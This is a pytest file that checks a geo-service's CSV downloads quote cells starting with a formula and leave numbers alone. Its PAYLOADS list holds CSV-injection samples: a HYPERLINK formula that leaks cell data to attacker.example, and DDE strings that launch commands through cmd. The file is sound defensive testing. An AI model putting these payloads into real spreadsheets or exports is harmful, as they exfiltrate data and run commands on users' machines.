"""CSV injection (issue 13): a catalogue record whose text starts a spreadsheet formula is written
as inert text in every CSV download; numbers keep their sign."""

from __future__ import annotations

import csv
import dataclasses
import io

import pandas as pd
import pytest
from test_pages import edited_catalogue

from geo_service.api.csvsafe import FORMULA_START, csv_cell, safe_frame

PAYLOADS = [
    '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")',
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_formula_cell_gets_a_leading_quote(payload):
    assert csv_cell(payload) == "'" + payload


@pytest.mark.parametrize("value", ["Croix-Rouge", "a=b", "", "'=already quoted", '["=x"]'])
def test_other_text_is_unchanged(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-3.2, -7, 0, 4.25, None, True])
def test_numbers_keep_their_sign(value):
    assert csv_cell(value) is value


def test_safe_frame_quotes_text_and_keeps_numeric_columns():
    frame = pd.DataFrame(
        {"gap_pp": [-3.2, 1.5], "label": ["=1+1", "fine"], "=col": ["x", "-y"]}, index=pd.Index(["@a", "b"], name="nis")
    )
    out = safe_frame(frame)
    assert out["gap_pp"].tolist() == [-3.2, 1.5] and out["gap_pp"].dtype == float
    assert out["label"].tolist() == ["'=1+1", "fine"]
    assert list(out.columns) == ["gap_pp", "label", "'=col"] and out["'=col"].tolist() == ["x", "'-y"]
    assert list(out.index) == ["'@a", "b"]
    assert frame["label"].tolist() == ["=1+1", "fine"], "the input is not modified"
    text = out.to_csv()
    assert "\n'@a,-3.2,'=1+1,x\n" in text


def _hostile(catalogue):
    """The first initiatives with a site named by the payloads, their operator and first site too."""
    initiatives = catalogue.initiatives.copy()
    sites = catalogue.sites.copy()
    with_sites = [iid for iid in initiatives.index if (sites["initiative_id"] == iid).any()]
    for payload, iid in zip(PAYLOADS, with_sites):
        initiatives.loc[iid, "name"] = payload
        initiatives.loc[iid, "operator"] = payload
        sites.loc[sites.index[sites["initiative_id"] == iid][:1], "name"] = payload
    return dataclasses.replace(catalogue, initiatives=initiatives, sites=sites)


@pytest.fixture(scope="module")
def hostile_downloads(app_factory, tmp_path_factory):
    app = app_factory(tmp_path_factory.mktemp("instance"))  # this module changes the catalogue
    with edited_catalogue(app, _hostile, "csv-injection") as snapshot:
        client = app.test_client()
        yield snapshot, {cid: client.get(f"/downloads/{cid}.csv") for cid in ("initiatives", "sites", "communes")}


@pytest.mark.slow
@pytest.mark.parametrize("cid", ["initiatives", "sites"])
def test_catalogue_payloads_are_inert_in_the_downloads(hostile_downloads, cid):
    snapshot, responses = hostile_downloads
    response = responses[cid]
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.data.decode("utf-8"))))
    cells = [cell for row in rows for cell in row]
    for payload in PAYLOADS:
        assert "'" + payload in cells, (cid, payload)
    assert not [cell for cell in cells if cell.startswith(FORMULA_START)], cid
    names = {row[rows[0].index("name")] for row in rows[1:]}
    kept = set(getattr(snapshot.catalogue, cid)["name"])  # everything else is written as stored
    assert {n for n in names if not n.startswith("'")} == {n for n in kept if not n.startswith(FORMULA_START)}


@pytest.mark.slow
def test_negative_numbers_stay_numbers_in_the_downloads(hostile_downloads):
    _, responses = hostile_downloads
    rows = list(csv.DictReader(io.StringIO(responses["communes"].data.decode("utf-8"))))
    gaps = [row["employment_gap_pp"] for row in rows if row.get("employment_gap_pp")]
    assert gaps and all(not g.startswith("'") for g in gaps)
    assert all(float(row["lon"]) > 2 for row in rows)  # numbers, never quoted
